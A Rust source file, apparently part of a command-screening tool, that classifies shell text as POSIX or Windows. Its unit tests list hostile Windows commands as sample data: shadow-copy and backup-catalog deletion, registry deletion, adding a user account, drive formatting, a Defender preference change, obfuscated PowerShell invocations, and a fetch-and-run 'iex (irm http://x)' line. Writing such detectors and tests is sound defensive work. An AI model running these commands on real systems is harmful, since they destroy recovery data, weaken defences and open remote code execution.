//! Determines the shell that a text is for, from the words at the start of commands when the text
//! is split as POSIX shells do.
//!
//! Words elsewhere are weak evidence: `apt-get update`, `README.md` and the body of a here-document
//! contain names that Windows has, too.

use super::lex::{self, Flow, Piece, Token, Word};
use super::windows_names::{self, NameOrigin};
use super::words::{assignment, keyword};

/// The shell that a text is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Dialect {
    /// A POSIX shell only.
    Posix,
    /// Either: the only evidence for PowerShell or cmd.exe is signs that they use more often.
    Open,
    /// PowerShell or cmd.exe may run it: it contains one of their commands.
    Windows,
}

/// Evidence of the shell that a text is for.
#[derive(Debug)]
pub(super) struct Evidence {
    /// The dialect, without regard to names that only rules know.
    pub(super) dialect: Dialect,
    /// Names of unknown commands. If rules name one of them as a Windows command, the text is for
    /// Windows.
    pub(super) names: Vec<String>,
}

/// Collects the evidence in `text`, in linear time.
pub(super) fn evidence(text: &str) -> Evidence {
    let (tokens, unclosed) = lex::lex(text);
    let mut names = Vec::new();
    let starts_command = starts_windows_command(&tokens, &mut names);
    // Quotes and backslashes that POSIX shells cannot close often belong to Windows commands.
    let has_windows_name = unclosed && windows_names::names_any(text, &mut names);
    let here_document = tokens.iter().any(|token| {
        matches!(
            token,
            Token::Redirect {
                flow: Flow::Here,
                ..
            }
        )
    });
    let dialect = if starts_command {
        Dialect::Windows
    } else if here_document && !unclosed {
        // Neither PowerShell nor cmd.exe has here-documents: both stop at `<<`.
        Dialect::Posix
    } else if has_windows_name || windows_names::has_sign(text) {
        Dialect::Windows
    } else if windows_names::has_weak_sign(text) {
        Dialect::Open
    } else {
        Dialect::Posix
    };
    Evidence { dialect, names }
}

/// Reports whether a command exists only on Windows, or is written as only PowerShell and cmd.exe
/// accept it.
fn starts_windows_command(tokens: &[Token], names: &mut Vec<String>) -> bool {
    let mut at_start = true;
    let mut after_if = false;
    let mut before: Option<&Token> = None;
    // The name of the command that the words belong to, if POSIX has a program of that name, too.
    let mut shared: Option<String> = None;
    for (at, token) in tokens.iter().enumerate() {
        let previous = before.replace(token);
        let Token::Word(word, _) = token else {
            let is_call = matches!(token, Token::Background)
                && at_start
                && !matches!(
                    previous,
                    Some(Token::Word(_, _) | Token::Close | Token::Redirect { .. })
                );
            // `& 'x'` and `.('x')` run the text.
            let is_dot_call = matches!(token, Token::Open)
                && matches!(previous, Some(Token::Word(word, _)) if text_of(word) == ".");
            if is_call && tokens.get(at + 1).is_some() || is_dot_call {
                return true;
            }
            at_start |= !matches!(token, Token::Redirect { .. });
            shared = shared.filter(|_| !at_start);
            continue;
        };
        if !at_start {
            if shared
                .as_deref()
                .is_some_and(|name| is_windows_argument(name, &text_of(word)))
            {
                return true;
            }
            continue;
        }
        let text = text_of(word);
        if std::mem::take(&mut after_if)
            && matches!(
                text.to_ascii_lowercase().as_str(),
                "exist" | "not" | "defined" | "/i"
            )
        {
            return true;
        }
        let next = tokens.get(at + 1);
        if is_powershell_assignment(word, next) {
            return true;
        }
        if assignment(word).is_some() {
            continue;
        }
        match keyword(word) {
            Some("for" | "select" | "case" | "function") => {
                // `for /f %i in (…)`
                if matches!(next, Some(Token::Word(next, _)) if text_of(next).starts_with(['/', '%']))
                {
                    return true;
                }
                at_start = false;
                continue;
            }
            Some(word) => {
                after_if = word == "if";
                continue;
            }
            None => {}
        }
        shared = None;
        match windows_names::name_origin(&text) {
            NameOrigin::Windows => return true,
            NameOrigin::Shared(name) => shared = Some(name),
            NameOrigin::Other(name) => names.push(name),
        }
        at_start = false;
    }
    false
}

/// Reports whether a word begins `$x = …`: a POSIX shell assigns without the sign.
fn is_powershell_assignment(word: &Word, next: Option<&Token>) -> bool {
    let Some(Piece::Variable { quoted: false, .. }) = word.first() else {
        return false;
    };
    match word.get(1) {
        Some(piece) => piece
            .as_plain()
            .is_some_and(|text| text.starts_with(['=', ':', '.'])),
        None => {
            matches!(next, Some(Token::Word(next, _)) if matches!(text_of(next).as_str(), "=" | "+=" | "-join" | "-replace"))
        }
    }
}

/// Reports whether an argument of a program that both have is one that only the Windows program
/// accepts.
fn is_windows_argument(name: &str, word: &str) -> bool {
    // Programs whose operands may be folders of one letter at the root.
    const TAKE_PATHS: [&str; 14] = [
        "cat", "cd", "cp", "curl", "find", "kill", "ls", "mkdir", "mount", "mv", "rm", "ssh",
        "tee", "wget",
    ];
    let flag = !TAKE_PATHS.contains(&name)
        && word.strip_prefix('/').is_some_and(|flag| {
            let end = flag.find(':').unwrap_or(flag.len());
            end == 1 && flag.starts_with(|c: char| c.is_ascii_alphabetic() || c == '?')
        });
    flag || name == "net" && windows_names::is_net_word(word)
        || matches!(name, "format" | "type") && is_drive(word)
}

fn is_drive(word: &str) -> bool {
    let mut letters = word.chars();
    letters.next().is_some_and(|c| c.is_ascii_alphabetic())
        && letters.next() == Some(':')
        && letters.next().is_none()
}

/// Returns the text in a word, without expansions.
fn text_of(word: &Word) -> String {
    word.iter()
        .filter_map(|piece| {
            if let Piece::Text { text, .. } = piece {
                Some(text.as_str())
            } else {
                None
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dialect(text: &str) -> Dialect {
        evidence(text).dialect
    }

    #[test]
    fn ordinary_commands_are_posix() {
        for text in [
            "apt-get update && apt-get install -y jq",
            "sed -i 's/a/b/' README.md",
            "ls -la /etc /usr",
            "git commit -m 'set-title: reg del md'",
            "cat > a.md <<'E'\ndel /s /q C:\\temp\nsudo reboot\nE",
            "git commit -F - <<'E'\ndetect: iex (irm http://x) is refused\nE",
            "for f in *.c; do cc -c $f; done",
            "make test & wait",
            "(cd a; make) & b",
            "done=1; if [ -f x ]; then echo y; fi",
            "ls -la /srv /sys",
            "echo \"${x[@]}\" | sort",
            "net-tools --version",
        ] {
            assert_eq!(dialect(text), Dialect::Posix, "{text}");
        }
    }

    #[test]
    fn commands_that_only_windows_has_decide() {
        for text in [
            "del /s C:\\x",
            "vss\"\"admin delete shadows",
            "w\"b\"admin delete catalog",
            "echo x & reg delete HKLM\\x",
            "$x = 'a'; & $x",
            "& ('i'+'ex') x",
            ".('i'+'ex') x",
            "Get-ChildItem | % { rm $_ }",
            "if exist x del x",
            "for /f %i in ('x') do %i",
            "rmdir /s /q x",
            "shutdown /s /t 0",
            "net user eve x /add",
            "format c:",
            "[Ref].Assembly.GetType('x')",
            "vssadmin.exe delete shadows",
            "sudo; Set-MpPreference -X",
            "ech`o x",
            "p^owershell x",
            "type C:\\x",
        ] {
            assert_eq!(dialect(text), Dialect::Windows, "{text}");
        }
    }

    #[test]
    fn names_that_rules_may_know_are_given() {
        for (text, names) in [
            ("w\"m\"x x; make & ls", "wmx make"),
            ("FOO.exe", ""),
            ("echo 'x", ""),
        ] {
            assert_eq!(evidence(text).names.join(" "), names, "{text}");
        }
    }

    #[test]
    fn marks_alone_leave_it_open() {
        for text in ["grep '^a' x", "git add scripts/install.ps1"] {
            assert_eq!(dialect(text), Dialect::Open, "{text}");
        }
    }
}
